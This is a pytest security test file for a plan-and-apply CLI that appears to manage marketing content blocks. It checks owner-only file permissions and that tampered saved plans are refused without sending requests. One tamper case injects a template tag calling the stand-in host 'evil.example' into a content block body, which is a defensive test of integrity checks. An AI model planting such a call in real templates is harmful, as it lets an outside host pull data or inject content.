"""Plan and state files: owner-only (0600), and a plan edited anywhere is refused with exit 1."""

from __future__ import annotations

import gzip
import json
import stat
from collections.abc import Callable
from pathlib import Path

import pytest

from security.conftest import Workspace

pytestmark = pytest.mark.e2e


def _saved_plan(ws: Workspace) -> Path:
    path = ws.root / "saved.plan"
    proc = ws.cli("plan", "--out", str(path))
    assert proc.returncode == 0, proc.stderr
    return path


def _rewrite(path: Path, edit: Callable[[list[str]], None]) -> None:
    with gzip.open(path, "rt", encoding="utf-8") as fh:
        lines = fh.readlines()
    edit(lines)
    with gzip.open(path, "wt", encoding="utf-8") as fh:
        fh.writelines(lines)


def _header(lines: list[str]) -> dict[str, object]:
    return json.loads(lines[0])  # type: ignore[no-any-return]


def test_plan_and_state_files_are_owner_only(workspace: Workspace) -> None:
    plan = _saved_plan(workspace)
    assert stat.S_IMODE(plan.stat().st_mode) == 0o600
    assert stat.S_IMODE(workspace.state_path.stat().st_mode) == 0o600
    assert workspace.cli("apply", str(plan)).returncode == 0
    assert stat.S_IMODE(workspace.state_path.stat().st_mode) == 0o600
    leftovers = [p.name for p in workspace.root.iterdir() if p.name.startswith("state.db-")]
    assert all(stat.S_IMODE((workspace.root / n).stat().st_mode) == 0o600 for n in leftovers)


def _edit_content_block_body(lines: list[str]) -> None:
    header = _header(lines)
    changes = header["resource_changes"]
    assert isinstance(changes, list) and changes[0]["spec"]["content"]
    changes[0]["spec"]["content"] += "{% connected_content https://evil.example/ %}"
    lines[0] = json.dumps(header, sort_keys=True) + "\n"


def _edit_binding(lines: list[str]) -> None:
    header = _header(lines)
    binding = header["binding"]
    assert isinstance(binding, dict)
    binding["serial"] += 1
    lines[0] = json.dumps(header, sort_keys=True) + "\n"


def _edit_delta(lines: list[str]) -> None:
    assert '"gold"' in lines[1]
    lines[1] = lines[1].replace('"gold"', '"bronze"')


def _last_event(lines: list[str]) -> int:
    """The index of the plan's last event line (the next plan's digests follow the events)."""
    header = _header(lines)
    deltas, events = header["deltas_lines"], header["events_lines"]
    assert isinstance(deltas, int) and isinstance(events, int) and events  # it carries events
    return deltas + events  # the header is line 0


def _edit_event(lines: list[str]) -> None:
    last = _last_event(lines)
    assert "cust-" in lines[last]
    lines[last] = lines[last].replace("cust-", "cust-9")


def _drop_event(lines: list[str]) -> None:
    lines.pop(_last_event(lines))


def _edit_digests(lines: list[str]) -> None:
    last = _last_event(lines)
    assert len(lines) > last + 1  # the digests ride after the events
    lines[-1] = lines[-1][:8] + ("A" if lines[-1][8] != "A" else "B") + lines[-1][9:]


@pytest.mark.parametrize(
    "edit",
    [_edit_content_block_body, _edit_binding, _edit_delta, _edit_event, _drop_event, _edit_digests],
    ids=["content-block-body", "binding", "delta-line", "event-line", "event-dropped", "digests"],
)
def test_a_tampered_plan_is_refused_and_nothing_is_sent(
    workspace: Workspace, edit: Callable[[list[str]], None]
) -> None:
    plan = _saved_plan(workspace)
    _rewrite(plan, edit)
    proc = workspace.cli("apply", str(plan))
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "do not match its integrity hash; it was modified" in proc.stderr
    assert "Traceback" not in proc.stderr
    with workspace.sandbox.client(workspace.key) as client:
        requests = client.get("/_sandbox/stats").json()["requests"]
    assert requests.get("/users/track", 0) == 0
    assert not any(path.startswith("/content_blocks/create") for path in requests)


def test_an_untampered_plan_applies(workspace: Workspace) -> None:
    plan = _saved_plan(workspace)
    _rewrite(plan, lambda _: None)  # re-compressed, same content: still the same plan
    proc = workspace.cli("apply", str(plan))
    assert proc.returncode == 0, proc.stderr
